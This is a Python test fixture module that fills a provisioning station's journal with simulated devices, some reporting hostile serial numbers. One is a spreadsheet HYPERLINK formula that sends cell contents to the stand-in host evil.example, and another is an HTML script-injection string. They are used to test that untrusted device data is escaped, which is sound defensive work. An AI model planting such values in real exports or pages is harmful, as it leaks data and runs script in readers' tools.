"""A station with devices in its journal, some of them with what hostile boards say of themselves."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

from tests.unit.station_world import World

from edgeseal.provisioning import Board
from edgeseal_host.station import chain
from edgeseal_host.station.chain import Entry
from edgeseal_host.station.devices import Made
from edgeseal_host.testing.provisioning import MemoryHome

if TYPE_CHECKING:
    from pathlib import Path

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"click")'
MARKUP = "</text><script>alert(1)</script>&\"'"


def home(number: int = 1, **changes: Any) -> MemoryHome:
    board = Board(f"b8:27:eb:00:00:{number:02x}", f"cid-{number}", f"duid-{number}", "c03115")
    return MemoryHome(**{"serial": f"1000{number:04}", "board": board, **changes})


def filled(place: Path) -> World:
    """Four devices, one of them late, in two batches; the run has ended: entries 2 to 13 and 14."""
    world = World.make(place)
    with world.journal() as journal:
        first = world.book(journal, seconds=iter([0.1, 0.25, 0.3] * 9).__next__)
        assert world.provision(first, home(1)).passed
        assert world.provision(first, home(2, serial=FORMULA)).passed
        assert world.provision(first, home(3, serial=MARKUP)).passed
        assert world.provision(
            world.book(journal, batch="2026-12-b", operator="@bob\n", fixture="lane2"), home(4)
        ).passed
        uploaded = journal.last(chain.PROVISIONED, serial="10000001")
        assert uploaded is not None
        journal.append(chain.UPLOADED, device=uploaded.device, serial=uploaded.serial, kid=uploaded.kid)
        journal.end(world.sign, detail={"passed": 4})
    return world


def device(name: str = "press-0001", serial: str = "10000001", **changes: Any) -> Made:
    """One device that no journal knows."""
    values = {"eth_mac": "b8:27:eb:00:00:01", "batch": "2026-11-a", "kid": bytes(16), **changes}
    return Made(Entry(1, chain.PROVISIONED, 1_700_000_000, device=name, serial=serial, **values), {}, True, False)  # noqa: FBT003
